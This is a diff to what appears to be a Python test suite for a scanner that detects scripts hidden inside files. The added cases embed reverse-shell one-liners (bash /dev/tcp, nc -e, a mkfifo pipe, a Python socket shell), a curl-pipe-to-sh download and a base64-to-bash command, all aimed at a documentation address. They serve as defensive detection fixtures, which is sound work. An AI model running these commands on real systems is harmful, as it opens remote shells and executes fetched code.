@@ -23,11 +23,32 @@ def hidden(script: bytes, verdict: Verdict = Verdict.REVIEW) -> Case:
 
 CASES = {
     "shell": hidden(SHELL),
-    "powershell_encoded": hidden(POWERSHELL),
+    "attack_powershell_encoded": hidden(POWERSHELL, Verdict.MALICIOUS),
     "powershell_cradle": hidden(CRADLE),
     "python_decoded": hidden(DECODED),
     "python_indirect": hidden(INDIRECT),
     "python_import": hidden(b"import os;os.system('echo modelsweep-test')\n"),
+    "attack_reverse_shell": hidden(b"\0bash -i >& /dev/tcp/192.0.2.1/9 0>&1\0", Verdict.MALICIOUS),
+    "attack_reverse_shell_in_script": hidden(b"#!/bin/sh\nsh -i >& /dev/tcp/192.0.2.1/9 0>&1\n", Verdict.MALICIOUS),
+    "attack_pipe": hidden(b"\0curl -s http://192.0.2.1/x.sh | sh\0", Verdict.MALICIOUS),
+    "attack_netcat": hidden(b"\xffnc -e /bin/sh 192.0.2.1 9\0", Verdict.MALICIOUS),
+    "attack_fifo": hidden(
+        b"\0rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 192.0.2.1 9 >/tmp/f\0", Verdict.MALICIOUS
+    ),
+    "attack_python_socket": hidden(
+        b"\0import socket,subprocess,os;s=socket.socket();s.connect(('192.0.2.1',9));os.dup2(s.fileno(),0);"
+        b"subprocess.call(['/bin/sh','-i'])\0",
+        Verdict.MALICIOUS,
+    ),
+    "attack_decoded": hidden(b"\0echo aWQ= | base64 -d | bash\0", Verdict.MALICIOUS),
+    "attack_in_data_set": Case(
+        lambda: NOISE + b"\0bash -i >& /dev/tcp/192.0.2.1/9 0>&1\0" + NOISE, "text.db", Verdict.REVIEW
+    ),
+    "benign_commands": hidden(
+        b"\0curl -fsSL https://example.com/install.sh | sh\0(echo > /dev/tcp/db/5432)\0/dev/tcp/x/\0curl x | shasum\0"
+        b"nc -z localhost 80\0base64 -d x | sha256sum\0s.connect(('127.0.0.1', 80))\0",
+        Verdict.NOT_SCANNED,
+    ),
     "benign_shebang_of_noise": hidden(b"#!/bin/sh\xff\xfe", Verdict.NOT_SCANNED),
     "benign_words": hidden(b"powershell iex import os exec eval __import__ #!/bin/", Verdict.NOT_SCANNED),
     "benign_script_file": Case(lambda: SHELL, "run.sh", Verdict.CLEAN, cut_is_clean=True),
